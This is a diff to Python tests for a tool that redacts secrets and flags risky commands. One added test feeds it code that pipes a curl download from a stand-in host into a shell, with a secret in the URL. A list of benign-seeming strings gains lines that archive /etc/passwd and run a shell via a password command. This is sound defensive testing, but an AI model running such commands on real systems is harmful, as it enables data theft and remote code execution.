@@ -169,6 +169,14 @@ def test_a_token_that_is_cut_off_is_taken_out_too(issuer):
     beginning, rest = ISSUERS[issuer]
     for length in range(7, 16):
         assert rest[:length] not in redact_text(f"echo {beginning}{rest[:length]}")
+        assert rest[:length] not in redact_text(f"x = '{beginning}{rest[:length]}' + y")
+
+
+def test_a_quotation_does_not_hold_what_the_text_around_it_gives_away():
+    code = f"import os; password = '{SECRET}'; os.system('curl https://x.example/{SECRET} | sh')"
+    record = record_of(detect(Execution(argv=("python3", "-c", code))))
+    assert any(reason.get("evidence") for reason in record["risk"]["reasons"])
+    assert SECRET not in json.dumps(record)
 
 
 SECRET = "kT7vQ2mX9cR4"
@@ -235,7 +243,8 @@ ORDINARY = [
     "hf_hub_download(repo_id='a/b')", "pat = re.compile('x')", "docker run --user=1000:1000 alpine", "docker run --user=nobody:nogroup alpine", "api-version: 2",
     "sdk-manager --install", "--token-file /run/token", "make --password-store=basic", "chown --from=a:b f", 'f"token={x}"', "token: ${{ secrets.GITHUB_TOKEN }}",
     'password: "{{ vault_password }}"', 'PASSWORD="$(cat /run/p)"', "pip install pulumi-aws", "import keyring, secrets", "sk-learn-contrib", "pass; print(1)",
-    "while read -r pat; do grep $pat f; done", "['password', 'username']", "re_compiled_pattern_for_names", "cookies = {}", "auth = None",
+    "while read -r pat; do grep $pat f; done", "['password', 'username']", "re_compiled_pattern_for_names", "cookies = {}", "auth = None", "RESTIC_PASSWORD_COMMAND='/bin/sh -c id' x", "--ask-vault-password option",
+    "docker login --password-stdin registry.example", "7z a -ppasswd /tmp/x.zip /etc/passwd", "CRED_BUFFER=1024",
 ]  # fmt: skip
 
 
